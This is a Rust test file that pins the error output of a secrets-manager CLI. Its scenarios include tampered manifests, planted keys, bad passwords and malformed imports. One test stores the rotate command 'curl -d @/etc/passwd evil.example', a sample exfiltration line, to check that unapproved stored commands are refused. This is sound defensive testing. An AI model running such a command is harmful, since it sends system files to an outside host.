//! Every user-facing error, pinned: each test is one scenario that ends in an
//! error, and `tests/snapshots/errors/<test name>.txt` holds what the user saw,
//! as a terminal transcript:
//!
//! ```text
//! $ SESAME_PASSWORD=wrong sesame get app/dev/token     <- the command line (and stdin)
//! ? 3                                                  <- the exit status
//! sesame: wrong password for [STORE]/identity.age — …  <- all of stderr
//! ```
//!
//! Every command runs in its own sandbox (`util::Sandbox`): no terminal,
//! `SESAME_STORE` set to the sandbox's store and `SESAME_PASSWORD` to its
//! password, unless the line says otherwise (`env -u SESAME_PASSWORD`). Paths are
//! shown as `[STORE]` and `[SANDBOX]`, so the files do not depend on the temp dir.
//!
//! A change of wording is a diff in those files. After an intended change,
//! `SNAPSHOTS=overwrite cargo test --test tests errors::` rewrites them (and
//! writes the file of a new case); review the diff and commit it.

use std::fs;
use std::path::PathBuf;

use snapbox::{Assert, Data, Redactions};

use crate::util::Sandbox;

/// The name of the test function this is used in: its snapshot's file name.
macro_rules! scenario {
    () => {{
        fn here() {}
        let path = std::any::type_name_of_val(&here);
        let path = path.strip_suffix("::here").unwrap();
        path.rsplit("::").next().unwrap()
    }};
}

/// One command line of a scenario: its arguments, stdin and environment.
#[derive(Default)]
struct Run {
    args: Vec<String>,
    stdin: Option<String>,
    env: Vec<(String, String)>,
    locked: bool,
    redactions: Vec<(&'static str, String)>,
}

/// `sesame ARGS…`.
fn sesame(args: &[&str]) -> Run {
    Run {
        args: args.iter().map(|a| a.to_string()).collect(),
        ..Run::default()
    }
}

impl Run {
    /// Piped to stdin (otherwise stdin is closed).
    fn stdin(mut self, text: &str) -> Self {
        self.stdin = Some(text.to_owned());
        self
    }

    /// An environment variable for this command.
    fn env(mut self, name: &str, value: impl Into<String>) -> Self {
        self.env.push((name.to_owned(), value.into()));
        self
    }

    /// Without `SESAME_PASSWORD`.
    fn locked(mut self) -> Self {
        self.locked = true;
        self
    }

    /// Show `value` as `placeholder` (a key made afresh for the test).
    fn redact(mut self, placeholder: &'static str, value: impl Into<String>) -> Self {
        self.redactions.push((placeholder, value.into()));
        self
    }

    /// Run it in `sb` and compare the transcript with the scenario's file.
    #[track_caller]
    fn pins(self, sb: &Sandbox, scenario: &str) {
        let mut cmd = if self.locked {
            sb.cmd_locked()
        } else {
            sb.cmd()
        };
        cmd.args(&self.args);
        for (name, value) in &self.env {
            cmd.env(name, value);
        }
        if let Some(input) = &self.stdin {
            cmd.write_stdin(input.as_bytes());
        }
        let out = cmd.output().unwrap();
        let status = match out.status.code() {
            Some(code) => code.to_string(),
            None => format!("{:?}", out.status),
        };
        let transcript = format!(
            "$ {}\n? {status}\n{}",
            self.command_line(),
            String::from_utf8_lossy(&out.stderr)
        );

        let mut redactions = Redactions::new();
        redactions.insert("[STORE]", sb.store.clone()).unwrap();
        redactions
            .insert("[SANDBOX]", sb.dir.path().to_path_buf())
            .unwrap();
        for (placeholder, value) in self.redactions {
            redactions.insert(placeholder, value).unwrap();
        }
        let file = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
            .join("tests/snapshots/errors")
            .join(format!("{scenario}.txt"));
        Assert::new()
            .action_env(snapbox::assert::DEFAULT_ACTION_ENV)
            .redact_with(redactions)
            .eq(transcript, Data::read_from(&file, None));
    }

    /// The command as a shell line: `printf %s STDIN | VAR=value sesame ARGS…`.
    fn command_line(&self) -> String {
        let mut words = Vec::new();
        if let Some(input) = &self.stdin {
            words.push(format!("printf %s {} |", quote(input)));
        }
        if self.locked {
            words.push("env -u SESAME_PASSWORD".to_owned());
        }
        for (name, value) in &self.env {
            words.push(format!("{name}={}", quote(value)));
        }
        words.push("sesame".to_owned());
        words.extend(self.args.iter().map(|a| quote(a)));
        words.join(" ")
    }
}

/// `word` as a shell would need it written.
fn quote(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-./=:,@%+".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// A store holding `app/dev/token`.
/// As `store`, in format 1 (made before signed stores).
fn format_1_store() -> Sandbox {
    let sb = Sandbox::new();
    sb.ok(["init", "--work-factor", "10", "--format-1"]);
    sb.set("app/dev/token", "token-value");
    sb
}

fn store() -> Sandbox {
    let sb = Sandbox::init();
    sb.set("app/dev/token", "token-value");
    sb
}

// --- Unlocking (exit 3) ---

#[test]
fn wrong_password() {
    let sb = store();
    sesame(&["get", "app/dev/token"])
        .env("SESAME_PASSWORD", "not the password")
        .pins(&sb, scenario!());
}

#[test]
fn no_unlock_source_without_a_terminal() {
    let sb = store();
    sesame(&["get", "app/dev/token"])
        .locked()
        .pins(&sb, scenario!());
}

#[test]
fn empty_password_file() {
    let sb = store();
    let file = sb.dir.path().join("password");
    fs::write(&file, "").unwrap();
    sesame(&["list"])
        .locked()
        .env("SESAME_PASSWORD_FILE", file.to_str().unwrap())
        .pins(&sb, scenario!());
}

#[test]
fn missing_password_file() {
    let sb = store();
    let file = sb.dir.path().join("no-such-file");
    sesame(&["list"])
        .locked()
        .env("SESAME_PASSWORD_FILE", file.to_str().unwrap())
        .pins(&sb, scenario!());
}

#[test]
fn identity_that_is_not_a_key() {
    let sb = store();
    sesame(&["get", "app/dev/token"])
        .locked()
        .env("SESAME_IDENTITY", "AGE-SECRET-KEY-1NOTAKEY")
        .pins(&sb, scenario!());
}

#[test]
fn identity_that_is_not_a_recipient() {
    let sb = store();
    let stranger = sesame::crypto::Identity::generate();
    let key = {
        use age::secrecy::ExposeSecret;
        stranger.secret_string().expose_secret().to_owned()
    };
    sesame(&["get", "app/dev/token"])
        .locked()
        .env("SESAME_IDENTITY", key.clone())
        .redact("[IDENTITY]", key)
        .pins(&sb, scenario!());
}

#[test]
fn unlock_check_when_not_unlocked() {
    let sb = store();
    sesame(&["unlock", "--check"])
        .locked()
        .pins(&sb, scenario!());
}

// --- The store (exit 1, 5, 7) ---

#[test]
fn no_store() {
    let sb = Sandbox::new();
    sesame(&["list"]).pins(&sb, scenario!());
}

#[test]
fn init_over_an_existing_store() {
    let sb = store();
    sesame(&["init", "--work-factor", "10"]).pins(&sb, scenario!());
}

#[test]
fn truncated_vault() {
    let sb = store();
    let mut run = sesame(&["list"]);
    for bucket in sb.buckets_of("manifest") {
        let bytes = fs::read(&bucket).unwrap();
        fs::write(&bucket, &bytes[..bytes.len() / 2]).unwrap();
        let name = bucket.file_name().unwrap().to_string_lossy().into_owned();
        run = run.redact("[BUCKET]", name);
    }
    run.pins(&sb, scenario!());
}

#[test]
fn truncated_manifest() {
    let sb = store();
    let manifest = fs::read(sb.file("manifest")).unwrap();
    fs::write(sb.file("manifest"), &manifest[..40]).unwrap();
    sesame(&["get", "app/dev/token"]).pins(&sb, scenario!());
}

// --- Store format 2: authenticity and freshness (exit 5) ---

#[test]
fn manifest_signature_that_does_not_verify() {
    let sb = store();
    let manifest = fs::read_to_string(sb.file("manifest")).unwrap();
    fs::write(
        sb.file("manifest"),
        manifest.replacen("\"max_versions\": 10", "\"max_versions\": 11", 1),
    )
    .unwrap();
    sesame(&["get", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn older_store_restored() {
    let sb = store();
    let old = sb.snapshot();
    sb.set("app/dev/token", "newer");
    for (name, bytes) in &old {
        fs::write(sb.store.join(name), bytes).unwrap();
    }
    sesame(&["get", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn unsigned_store_where_a_signed_one_was_seen() {
    let sb = store();
    fs::remove_file(sb.file("manifest")).unwrap();
    let recipients = fs::read_to_string(sb.file("recipients")).unwrap();
    let own: age::x25519::Recipient = recipients
        .lines()
        .find(|l| l.starts_with("age1"))
        .unwrap()
        .parse()
        .unwrap();
    let planted = age::encrypt(&own, br#"{"format":1,"secrets":{}}"#).unwrap();
    fs::write(sb.file("vault.age"), planted).unwrap();
    sesame(&["list"]).pins(&sb, scenario!());
}

#[test]
fn reader_key_writing() {
    let sb = store();
    let token = sb.ok(["recipients", "add", "--generate-ci", "ci"]);
    sesame(&["set", "app/dev/token"])
        .locked()
        .env("SESAME_IDENTITY", token.trim())
        .redact("[TOKEN]", token.trim())
        .stdin("x")
        .pins(&sb, scenario!());
}

#[test]
fn damaged_identity_file() {
    let sb = store();
    let id = fs::read_to_string(sb.file("identity.age")).unwrap();
    fs::write(sb.file("identity.age"), id.replacen('A', "*", 1)).unwrap();
    sesame(&["get", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn vault_from_a_newer_sesame() {
    let sb = store();
    let manifest = fs::read_to_string(sb.file("manifest")).unwrap();
    fs::write(
        sb.file("manifest"),
        manifest.replacen("\"format\": 2", "\"format\": 3", 1),
    )
    .unwrap();
    sesame(&["list"]).pins(&sb, scenario!());
}

#[test]
fn recipients_file_changed_behind_sesames_back() {
    let sb = store();
    let planted = sesame::crypto::Identity::generate().public();
    let mut recipients = fs::read_to_string(sb.file("recipients")).unwrap();
    recipients.push_str(&format!("{planted}\n"));
    fs::write(sb.file("recipients"), recipients).unwrap();
    sesame(&["set", "app/dev/other"])
        .stdin("value")
        .redact("[PLANTED_KEY]", planted)
        .pins(&sb, scenario!());
}

#[test]
fn tampered_audit_log() {
    let sb = store();
    sb.get("app/dev/token");
    sb.set("app/dev/other", "value");
    let log = fs::read_to_string(sb.file("audit.log")).unwrap();
    let mut lines: Vec<&str> = log.lines().collect();
    let changed = lines[2].replacen("app/dev/token", "app/dev/tokem", 1);
    assert_ne!(changed, lines[2], "line 3 is the `get`");
    lines[2] = &changed;
    fs::write(sb.file("audit.log"), lines.join("\n") + "\n").unwrap();
    sesame(&["audit", "verify"]).pins(&sb, scenario!());
}

#[test]
fn store_busy_with_another_writer() {
    let sb = store();
    let lock = fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(sb.file("lock"))
        .unwrap();
    lock.lock().unwrap();
    sesame(&["set", "app/dev/other"])
        .stdin("value")
        .env("SESAME_LOCK_TIMEOUT", "0.2")
        .pins(&sb, scenario!());
    lock.unlock().unwrap();
}

// --- Secrets (exit 4, 6) ---

#[test]
fn unknown_secret() {
    let sb = store();
    sesame(&["get", "app/dev/tokn"]).pins(&sb, scenario!());
}

#[test]
fn unknown_version() {
    let sb = store();
    sesame(&["get", "app/dev/token", "--version", "7"]).pins(&sb, scenario!());
}

#[test]
fn prefix_that_matches_nothing() {
    let sb = store();
    sesame(&["run", "--prefix", "stripe/", "--", "true"]).pins(&sb, scenario!());
}

#[test]
fn revoked_secret() {
    let sb = store();
    sb.ok(["revoke", "app/dev/token", "--yes"]);
    sesame(&["get", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn expired_secret() {
    let sb = Sandbox::init();
    sb.cmd()
        .args(["set", "app/dev/old", "--expires", "2000-01-01T00:00:00Z"])
        .write_stdin("old-value")
        .assert()
        .success();
    sesame(&["get", "app/dev/old"]).pins(&sb, scenario!());
}

// --- Arguments and input (exit 2) ---

#[test]
fn bad_secret_name() {
    let sb = store();
    sesame(&["set", "bad name"])
        .stdin("value")
        .pins(&sb, scenario!());
}

#[test]
fn bad_duration() {
    let sb = store();
    sesame(&["set", "app/dev/other", "--max-age", "3x"])
        .stdin("value")
        .pins(&sb, scenario!());
}

#[test]
fn bad_expiry() {
    let sb = store();
    sesame(&["set", "app/dev/other", "--expires", "next-week"])
        .stdin("value")
        .pins(&sb, scenario!());
}

#[test]
fn negative_expiry() {
    let sb = store();
    sesame(&["set", "app/dev/other", "--expires", "-1d"])
        .stdin("value")
        .pins(&sb, scenario!());
}

#[test]
fn get_an_invalid_name() {
    let sb = store();
    sesame(&["get", "bad name"]).pins(&sb, scenario!());
}

#[test]
fn empty_value() {
    let sb = store();
    sesame(&["set", "app/dev/other"])
        .stdin("")
        .pins(&sb, scenario!());
}

#[test]
fn unknown_flag() {
    let sb = store();
    sesame(&["get", "--frobnicate", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn misspelled_subcommand() {
    let sb = store();
    sesame(&["rotat", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn missing_argument() {
    let sb = store();
    sesame(&["get"]).pins(&sb, scenario!());
}

#[test]
fn value_not_among_the_choices() {
    let sb = Sandbox::new();
    sesame(&["completions", "tcsh"]).pins(&sb, scenario!());
}

#[test]
fn value_out_of_range() {
    let sb = Sandbox::new();
    sesame(&["init", "--work-factor", "30"]).pins(&sb, scenario!());
}

#[test]
fn remove_without_force() {
    let sb = store();
    sesame(&["remove", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn revoke_without_a_terminal_or_yes() {
    let sb = store();
    sesame(&["revoke", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn generate_over_an_existing_secret() {
    let sb = store();
    sesame(&["generate", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn env_with_a_file_hand_over() {
    let sb = store();
    sesame(&["env", "-f", "app/dev/token=KEY"]).pins(&sb, scenario!());
}

#[test]
fn secrets_missing_from_a_profile() {
    let sb = store();
    fs::write(
        sb.dir.path().join("sesame.toml"),
        "[profile.prod.env]\nTOKEN = \"app/dev/token\"\nDB_URL = \"app/prod/db_url\"\nAPI_KEY = \"app/prod/api_key\"\n",
    )
    .unwrap();
    sb.cmd().arg("allow").assert().success();
    sesame(&["run", "--profile", "prod", "--", "true"]).pins(&sb, scenario!());
}

#[test]
fn edit_with_nothing_to_change() {
    let sb = store();
    sesame(&["edit", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn bad_recipient_key() {
    let sb = store();
    sesame(&["recipients", "add", "not-a-key"]).pins(&sb, scenario!());
}

#[test]
fn bad_variable_name() {
    let sb = store();
    sesame(&["run", "-s", "app/dev/token=1X", "--", "true"]).pins(&sb, scenario!());
}

#[test]
fn variable_selected_twice() {
    let sb = store();
    sb.set("app/dev/other", "value");
    sesame(&[
        "run",
        "-s",
        "app/dev/token=A",
        "-f",
        "app/dev/other=A",
        "--",
        "true",
    ])
    .pins(&sb, scenario!());
}

#[test]
fn nothing_selected() {
    let sb = store();
    sesame(&["run", "--", "true"]).pins(&sb, scenario!());
}

#[test]
fn profile_without_a_project_file() {
    let sb = store();
    sesame(&["run", "--profile", "prod", "--", "true"]).pins(&sb, scenario!());
}

#[test]
fn malformed_project_file() {
    let sb = store();
    fs::write(sb.dir.path().join("sesame.toml"), "[env\nX = 1\n").unwrap();
    sesame(&["run", "--", "true"]).pins(&sb, scenario!());
}

#[test]
fn malformed_dotenv_import() {
    let sb = store();
    fs::write(
        sb.dir.path().join("app.env"),
        "GOOD=1\nthis is not a line\n",
    )
    .unwrap();
    sesame(&["import", "app.env"]).pins(&sb, scenario!());
}

#[test]
fn value_no_dotenv_line_can_hold() {
    let sb = store();
    sb.set_with("app/dev/quote", ["--env", "QUOTE"], "it's $5\n");
    sesame(&["env", "-s", "app/dev/quote"]).pins(&sb, scenario!());
}

#[test]
fn import_of_a_missing_file() {
    let sb = store();
    sesame(&["import", "missing.env"]).pins(&sb, scenario!());
}

#[test]
fn internal_completion_callback_misused() {
    let sb = Sandbox::new();
    sesame(&["__complete", "secrets"]).pins(&sb, scenario!());
}

#[test]
fn hook_outside_a_git_repository() {
    let sb = store();
    sesame(&["hook", "install"]).pins(&sb, scenario!());
}

#[test]
fn scan_staged_outside_a_git_repository() {
    let sb = store();
    sesame(&["scan", "--staged"]).pins(&sb, scenario!());
}

// --- Team stores in git (issue 15) ---

#[test]
fn sync_outside_a_git_repository() {
    let sb = store();
    sesame(&["sync"]).pins(&sb, scenario!());
}

#[test]
fn team_resolve_outside_a_git_repository() {
    let sb = store();
    sesame(&["team", "resolve"]).pins(&sb, scenario!());
}

#[test]
fn merge_driver_without_an_unlock() {
    let sb = store();
    let m = sb.store.join("manifest");
    let m = m.to_str().unwrap();
    sesame(&["team", "merge-driver", m, m, m, "store/manifest"])
        .locked()
        .pins(&sb, scenario!());
}

#[test]
fn malformed_config_file() {
    let sb = store();
    let dir = sb.home.join(".config/sesame");
    fs::create_dir_all(&dir).unwrap();
    fs::write(dir.join("config.toml"), "cache_timeout = [\n").unwrap();
    sesame(&["unlock"]).pins(&sb, scenario!());
}

#[test]
fn bad_lock_timeout_variable() {
    let sb = store();
    sesame(&["set", "app/dev/other"])
        .stdin("value")
        .env("SESAME_LOCK_TIMEOUT", "soon")
        .pins(&sb, scenario!());
}

// --- Children of `run` (exit 127, 126) ---

#[test]
fn program_not_found() {
    let sb = store();
    sesame(&["run", "-s", "app/dev/token", "--", "no-such-program"]).pins(&sb, scenario!());
}

#[test]
fn program_not_executable() {
    let sb = store();
    fs::write(sb.dir.path().join("notes.txt"), "not a program\n").unwrap();
    sesame(&["run", "-s", "app/dev/token", "--", "./notes.txt"]).pins(&sb, scenario!());
}

// --- The user's rotate and revoke commands (exit 1, nothing changed) ---

#[test]
fn rotate_command_that_fails() {
    let sb = store();
    sesame(&[
        "rotate",
        "app/dev/token",
        "--command",
        "echo oops >&2; exit 7",
    ])
    .pins(&sb, scenario!());
}

#[test]
fn rotate_command_that_prints_nothing() {
    let sb = store();
    sesame(&["rotate", "app/dev/token", "--command", "true"]).pins(&sb, scenario!());
}

#[test]
fn rotate_command_that_outlives_its_timeout() {
    let sb = store();
    sesame(&[
        "rotate",
        "app/dev/token",
        "--command",
        "sleep 30",
        "--timeout",
        "1s",
    ])
    .pins(&sb, scenario!());
}

#[test]
fn rotate_command_that_prints_a_malformed_pair() {
    let sb = store();
    let pair = sb.dir.path().join("pair.json");
    fs::write(&pair, r#"{"value": 5}"#).unwrap();
    let command = format!("cat {}", pair.display());
    sesame(&["rotate", "app/dev/token", "--command", &command]).pins(&sb, scenario!());
}

#[test]
fn revoke_command_that_fails() {
    let sb = store();
    sb.ok(["edit", "app/dev/token", "--revoke-command", "exit 3"]);
    sesame(&["revoke", "app/dev/token", "--yes"]).pins(&sb, scenario!());
}

#[test]
fn rotate_with_nothing_to_make_a_value_from() {
    let sb = store();
    sesame(&["rotate", "app/dev/token"]).pins(&sb, scenario!());
}

// --- Permissions and approvals (issue 12) ---

#[test]
fn store_directory_others_can_write() {
    use std::os::unix::fs::PermissionsExt;
    let sb = store();
    fs::set_permissions(&sb.store, fs::Permissions::from_mode(0o777)).unwrap();
    sesame(&["get", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn lock_file_that_is_a_symbolic_link() {
    let sb = store();
    fs::remove_file(sb.file("lock")).unwrap();
    std::os::unix::fs::symlink(sb.dir.path().join("elsewhere"), sb.file("lock")).unwrap();
    sesame(&["set", "app/dev/token"])
        .stdin("value")
        .pins(&sb, scenario!());
}

#[test]
fn stored_command_not_approved() {
    // A format-1 store, where a CI key can write a command (issue 12 refuses
    // that in a signed store).
    let sb = format_1_store();
    let key = sb.ok(["recipients", "add", "--generate-ci", "ci"]);
    let out = sb
        .cmd_locked()
        .env("SESAME_IDENTITY", key.trim())
        .args([
            "edit",
            "app/dev/token",
            "--rotate-command",
            "curl -d @/etc/passwd evil.example",
        ])
        .output()
        .unwrap();
    assert!(out.status.success());
    sesame(&["rotate", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn allow_without_a_terminal() {
    // A format-1 store: in a signed one the owner's key signed the command,
    // which needs no approval.
    let sb = format_1_store();
    sb.ok(["edit", "app/dev/token", "--rotate-command", "./mint"]);
    sb.ok(["deny", "--secret", "app/dev/token"]);
    sesame(&["allow", "--secret", "app/dev/token"]).pins(&sb, scenario!());
}

#[test]
fn write_stored_but_not_recorded_in_the_audit_log() {
    let sb = store();
    use std::os::unix::fs::PermissionsExt;
    fs::create_dir(sb.file("audit.log.1")).unwrap();
    fs::write(sb.file("audit.log.1").join("x"), "").unwrap();
    fs::set_permissions(sb.file("audit.log.1"), fs::Permissions::from_mode(0o700)).unwrap();
    sesame(&["set", "app/dev/token"])
        .stdin("value")
        .env("SESAME_AUDIT_MAX_BYTES", "1")
        .pins(&sb, scenario!());
}

#[test]
fn project_file_not_approved() {
    let sb = store();
    fs::write(
        sb.dir.path().join("sesame.toml"),
        "[env]\nTOKEN = \"app/dev/token\"\nKEY = { secret = \"app/dev/key\", file = true }\n",
    )
    .unwrap();
    sesame(&["run", "--", "true"]).pins(&sb, scenario!());
}

#[test]
fn project_file_pinned_to_another_hash() {
    let sb = store();
    fs::write(
        sb.dir.path().join("sesame.toml"),
        "[env]\nTOKEN = \"app/dev/token\"\n",
    )
    .unwrap();
    sesame(&["run", "--", "true"])
        .env("SESAME_PROJECT_SHA256", "0".repeat(64))
        .pins(&sb, scenario!());
}

#[test]
fn write_project_over_an_existing_project_file() {
    let sb = store();
    fs::write(sb.dir.path().join("sesame.toml"), "[env]\nA = \"x/a\"\n").unwrap();
    fs::write(sb.dir.path().join(".env"), "DATABASE_URL=postgres://h/db\n").unwrap();
    sesame(&["import", ".env", "--prefix", "app/dev", "--write-project"]).pins(&sb, scenario!());
}

// --- Team stores (issue 15) ---

#[test]
fn team_init_outside_a_git_work_tree() {
    let sb = Sandbox::new();
    sesame(&["team", "init", "--name", "alice", "--work-factor", "10"]).pins(&sb, scenario!());
}

#[test]
fn team_join_with_a_bad_fingerprint() {
    let sb = Sandbox::new();
    sesame(&["team", "join", "--admin", "3f1c", "--name", "bob"]).pins(&sb, scenario!());
}

#[test]
fn member_add_with_a_damaged_request() {
    let sb = store();
    sesame(&["member", "add", "bob", "SESAME-JOIN-1eyJ9"]).pins(&sb, scenario!());
}

#[test]
fn member_remove_of_nobody() {
    let sb = store();
    sesame(&["member", "remove", "bob"]).pins(&sb, scenario!());
}

#[test]
fn member_remove_of_the_last_admin() {
    let sb = store();
    let id = sb.json(["member", "list"])[0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    sesame(&["member", "remove", &id])
        .redact("[ID]", id.clone())
        .pins(&sb, scenario!());
}

// --- issue 18: credential helpers and importers ---

#[test]
fn git_credential_request_without_equals() {
    let sb = store();
    sesame(&["git-credential", "get"])
        .stdin("protocol=https\nhost\n")
        .pins(&sb, scenario!());
}

#[test]
fn git_credential_locked() {
    let sb = store();
    sesame(&["git-credential", "get"])
        .stdin("protocol=https\nhost=github.com\n\n")
        .locked()
        .pins(&sb, scenario!());
}

#[test]
fn docker_credential_store_not_json() {
    let sb = store();
    sesame(&["docker-credential", "store"])
        .stdin("{\"ServerURL\": 1}")
        .pins(&sb, scenario!());
}

#[test]
fn import_csv_without_map() {
    let sb = store();
    fs::write(sb.dir.path().join("x.csv"), "a,b\n").unwrap();
    sesame(&["import", "--from", "csv", "x.csv"]).pins(&sb, scenario!());
}

#[test]
fn import_csv_preset_missing_column() {
    let sb = store();
    fs::write(sb.dir.path().join("x.csv"), "Name,Secret\nn,s\n").unwrap();
    sesame(&["import", "--from", "1password-csv", "x.csv"]).pins(&sb, scenario!());
}

#[test]
fn import_entries_that_collide() {
    let sb = store();
    fs::write(
        sb.dir.path().join("x.csv"),
        "Title,Password\nmy site,one\nmy_site,two\n",
    )
    .unwrap();
    sesame(&["import", "--from", "1password-csv", "x.csv"]).pins(&sb, scenario!());
}

#[test]
fn import_encrypted_bitwarden_export() {
    let sb = store();
    fs::write(sb.dir.path().join("bw.json"), "{\"encrypted\": true}").unwrap();
    sesame(&["import", "--from", "bitwarden", "bw.json"]).pins(&sb, scenario!());
}

#[test]
fn import_without_a_file() {
    let sb = store();
    sesame(&["import"]).pins(&sb, scenario!());
}

// --- Templates, env files, AWS credential_process (issue 18) ---

#[test]
fn env_file_not_approved() {
    let sb = store();
    fs::write(
        sb.dir.path().join(".env"),
        "TOKEN=sesame://app/dev/token\nKEY_ID=sesame://app/dev/token#id\nPORT=3000\n",
    )
    .unwrap();
    sesame(&["run", "--env-file", ".env", "--", "true"]).pins(&sb, scenario!());
}

#[test]
fn env_file_malformed_reference() {
    let sb = store();
    fs::write(
        sb.dir.path().join(".env"),
        "A=1\nTOKEN=sesame://app/Dev Token\n",
    )
    .unwrap();
    sesame(&["run", "--env-file", ".env", "--", "true"]).pins(&sb, scenario!());
}

#[test]
fn template_references_unavailable() {
    let sb = store();
    sesame(&["inject"])
        .stdin("a={{ sesame://app/dev/token }}\nb={{ sesame://app/dev/nope }}\nc={{ sesame://app/dev/token#id }}\n")
        .pins(&sb, scenario!());
}

#[test]
fn template_unknown_filter() {
    let sb = store();
    sesame(&["inject"])
        .stdin("x: {{ sesame://app/dev/token | toml }}\n")
        .pins(&sb, scenario!());
}

#[test]
fn aws_credentials_without_a_key_id() {
    let sb = store();
    sesame(&["aws-credentials", "app/dev/token"]).pins(&sb, scenario!());
}
